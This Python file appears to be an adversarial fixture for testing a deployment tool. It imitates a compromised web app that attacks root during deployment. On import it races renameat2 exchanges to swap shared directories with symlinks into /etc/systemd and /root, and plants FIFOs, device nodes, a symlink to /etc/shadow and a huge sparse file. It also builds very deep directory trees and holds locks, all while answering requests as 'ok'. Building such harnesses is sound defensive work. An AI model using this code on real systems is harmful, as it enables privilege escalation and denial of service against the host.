"""An app that has been broken into, and that waits for root to act by a path: it exchanges what it can write for links, all the time."""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import glob
import os
import socket
import stat
import sys
import threading
import time
from collections.abc import Callable, Iterable
from typing import Any

RELEASE = os.path.dirname(os.getcwd())
ROOT = os.path.dirname(os.path.dirname(RELEASE))
SHARED, RUN = f"{ROOT}/shared", f"{RELEASE}/run"
NOWHERE, EXCHANGE = -100, 2  # AT_FDCWD, RENAME_EXCHANGE
DEEP = 3000
renameat2 = ctypes.CDLL(None).renameat2


def exchange_for_ever(path: str, target: str) -> None:
    """Exchange a directory with a link to one that is not the app's, and back."""
    link = f"{path}-link"
    with contextlib.suppress(OSError):
        os.symlink(target, link)
    while True:
        renameat2(NOWHERE, path.encode(), NOWHERE, link.encode(), EXCHANGE)
        time.sleep(0.003)


def nest(directory: str) -> None:
    """Make directories in one another, more than a path can name."""
    top = os.open(directory, os.O_RDONLY)
    for _depth in range(DEEP):
        with contextlib.suppress(FileExistsError):
            os.mkdir("deep", dir_fd=top)
        below = os.open("deep", os.O_RDONLY, dir_fd=top)
        os.close(top)
        top = below
    os.close(top)


def lay_traps() -> None:
    """What root might open, read or wait for."""
    for name in ("daemon-1", "daemon-xyz", "uwsgi.pid", "pipe"):
        with contextlib.suppress(OSError):
            os.mkfifo(f"{RUN}/{name}")
    for top in (RUN, SHARED):
        with contextlib.suppress(OSError):
            os.mknod(f"{top}/device", stat.S_IFCHR | 0o666)  # of number 0, the only one that every account can make
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as server:
        server.bind(f"{RUN}/daemon-2")
    with contextlib.suppress(OSError):
        os.symlink("/etc/shadow", f"{RUN}/daemon-3")
    with open(f"{SHARED}/huge", "w", encoding="utf-8") as handle:
        handle.truncate(1 << 40)
    for directory in (RUN, SHARED):
        nest(directory)


def hold_locks() -> None:
    """Lock directories and their files that can be opened for reading, where root might wait for a lock."""
    tops = [ROOT, f"{ROOT}/venvs", f"{ROOT}/releases", RELEASE, SHARED, RUN, "/var/cache/flaskops", "/etc/flaskops", "/run/flaskops", "/run/lock"]
    for top in tops:
        for path in [top, *glob.glob(f"{top}/*"), *glob.glob(f"{top}/.*")]:
            with contextlib.suppress(OSError):
                fcntl.flock(os.open(path, os.O_RDONLY | os.O_NONBLOCK), fcntl.LOCK_EX | fcntl.LOCK_NB)


def attack() -> None:
    """Begin all of it, in the process that serves."""
    lay_traps()
    hold_locks()
    # the host has what the links lead to, so that root finds nothing missing
    for path, target in ((f"{SHARED}/media", "/etc/systemd"), (f"{SHARED}/uploads", "/etc/systemd/system"), (f"{SHARED}/media/system", "/root")):
        threading.Thread(target=exchange_for_ever, args=(path, target), daemon=True).start()


def app(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
    """Answer like any app."""
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]


if sys.argv[0] != "-":
    attack()
